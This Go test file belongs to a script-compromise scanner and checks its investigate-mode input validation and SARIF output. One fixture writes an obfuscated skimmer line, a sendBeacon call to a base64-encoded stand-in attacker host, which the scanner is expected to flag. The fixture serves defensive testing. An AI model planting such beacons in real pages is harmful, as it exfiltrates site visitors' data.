package main

import (
	"bytes"
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/shieldscan/shieldscan/internal/sarifcheck"
)

// TestInvestigateBadInput: --investigate without what it needs is exit 2 with one line naming
// what is missing, before anything is scanned, and the token never appears.
func TestInvestigateBadInput(t *testing.T) {
	t.Setenv("XDG_CACHE_HOME", t.TempDir())
	shop := filepath.Join(repoRoot(t), "testdata", "example-shop")
	script := filepath.Join(shop, "public", "js", "checkout.js")
	const token = "secret-token-0123456789"
	const account = "0123456789abcdef0123456789abcdef"
	tmp := t.TempDir()
	cfg := filepath.Join(tmp, "shieldscan.yml")
	os.WriteFile(cfg, []byte("cloudflare-account: "+account+"\n"), 0o644)
	feed := filepath.Join(tmp, "feed.txt")
	os.WriteFile(feed, []byte("evil.example\n"), 0o644)
	tests := []struct {
		name   string
		args   []string
		token  string
		want   int
		stderr []string // parts of the one line, for exit 2
	}{
		{"scan without token", []string{"scan", "--investigate", "-r", "js.stripe.com", shop}, "", 2, []string{"CLOUDFLARE_API_TOKEN", "Intel Read", "--intel-file"}},
		{"analyze without token", []string{"analyze", "--investigate", "--no-emulate", script}, "", 2, []string{"CLOUDFLARE_API_TOKEN", "Intel Read"}},
		{"inventory without token", []string{"inventory", "--investigate", shop}, "", 2, []string{"CLOUDFLARE_API_TOKEN", "Intel Read"}},
		{"scan without account", []string{"scan", "--investigate", "-r", "js.stripe.com", shop}, token, 2, []string{"--cloudflare-account ACCOUNT_ID"}},
		{"inventory without account", []string{"inventory", "--investigate", shop}, token, 2, []string{"--cloudflare-account"}},
		{"bad account", []string{"scan", "--investigate", "--cloudflare-account", "abc", "-r", "js.stripe.com", shop}, token, 2, []string{`"abc" is not 32 hexadecimal digits`}},
		{"bad API URL", []string{"scan", "--investigate", "--cloudflare-account", account, "--cloudflare-api-url", "ftp://x", "-r", "js.stripe.com", shop}, token, 2, []string{"not an http(s) URL"}},
		{"no-cache alone", []string{"scan", "--no-cache", "-r", "js.stripe.com", shop}, "", 2, []string{"go with --investigate"}},
		{"account alone", []string{"scan", "--cloudflare-account", account, "-r", "js.stripe.com", shop}, "", 2, []string{"go with --investigate"}},
		{"missing intel file", []string{"scan", "--intel-file", filepath.Join(tmp, "nope.txt"), "-r", "js.stripe.com", shop}, "", 2, []string{"--intel-file", "no such file"}},
		{"bad account in the config", []string{"scan", "--investigate", "--config", filepath.Join(tmp, "bad.yml"), "-r", "js.stripe.com", shop}, token, 2, []string{"bad.yml:1: cloudflare-account"}},
		{"offline without feed: the cache only", []string{"scan", "--investigate", "--offline", "-r", "js.stripe.com", shop}, "", 0, nil},
		{"feed without token", []string{"scan", "--intel-file", feed, "-r", "js.stripe.com", shop}, "", 0, nil},
		{"feed with token, no account", []string{"scan", "--intel-file", feed, "-r", "js.stripe.com", shop}, token, 0, nil},
		{"account from the config, offline", []string{"scan", "--investigate", "--offline", "--config", cfg, "-r", "js.stripe.com", shop}, token, 0, nil},
	}
	os.WriteFile(filepath.Join(tmp, "bad.yml"), []byte("cloudflare-account: abc\n"), 0o644)
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Setenv("CLOUDFLARE_API_TOKEN", tt.token)
			var stdout, stderr bytes.Buffer
			got := run(context.Background(), tt.args, strings.NewReader(""), &stdout, &stderr)
			if got != tt.want {
				t.Errorf("run(%q) = %d, want %d\nstderr: %s", tt.args, got, tt.want, stderr.String())
			}
			msg := stderr.String()
			if tt.want == 2 && (strings.Count(msg, "\n") != 1 || !strings.HasPrefix(msg, "shieldscan: ") || strings.Contains(msg, "invalid resource")) {
				t.Errorf("run(%q) stderr = %q, want one line", tt.args, msg)
			}
			for _, part := range tt.stderr {
				if !strings.Contains(msg, part) {
					t.Errorf("run(%q) stderr = %q, want it to name %q", tt.args, msg, part)
				}
			}
			if strings.Contains(msg+stdout.String(), token) {
				t.Errorf("run(%q) printed the token", tt.args)
			}
		})
	}
}

// TestInvestigateSARIF: a report with an active compromise is valid SARIF for GitHub, the same
// bytes on every run, and its result carries each indicator.
func TestInvestigateSARIF(t *testing.T) {
	t.Setenv("XDG_CACHE_HOME", t.TempDir())
	tmp := t.TempDir()
	site := filepath.Join(tmp, "site")
	os.MkdirAll(site, 0o755)
	os.WriteFile(filepath.Join(site, "checkout.html"), []byte("<script src=\"https://cdn.shop-widgets.example/w.js\"></script>\n"), 0o644)
	script := filepath.Join(tmp, "w.js")
	os.WriteFile(script, []byte(`navigator.sendBeacon(atob("aHR0cHM6Ly9jb2xsZWN0LmV2aWwtc3RhdHMuZXhhbXBsZS9j"), 1);`+"\n"), 0o644)
	feed := filepath.Join(tmp, "feed.txt")
	os.WriteFile(feed, []byte("collect.evil-stats.example\tSkimmer\n"), 0o644)
	args := []string{"scan", "--format", "sarif", "--expand", "--offline", "--intel-file", feed,
		"--script-source", "https://cdn.shop-widgets.example/w.js=" + script, "-r", "https://cdn.shop-widgets.example/w.js", site}
	var first []byte
	for i := range 2 {
		var stdout, stderr bytes.Buffer
		if code := run(context.Background(), args, strings.NewReader(""), &stdout, &stderr); code != exitFindings {
			t.Fatalf("run(%q) = %d, want %d: %s", args, code, exitFindings, stderr.String())
		}
		if err := sarifcheck.Validate(stdout.Bytes()); err != nil {
			t.Fatalf("run(%q) wrote invalid SARIF: %v", args, err)
		}
		for _, want := range []string{`"ruleId": "active-compromise"`, `"indicator.present": {`, `"indicator.malicious-resource": {`, `"indicator.malicious-source": {`, `"playbook.next": "contain now`} {
			if !strings.Contains(stdout.String(), want) {
				t.Errorf("run(%q) SARIF lacks %s", args, want)
			}
		}
		if i == 0 {
			first = stdout.Bytes()
		} else if !bytes.Equal(first, stdout.Bytes()) {
			t.Errorf("run(%q) gave different bytes on a second run", args)
		}
	}
}
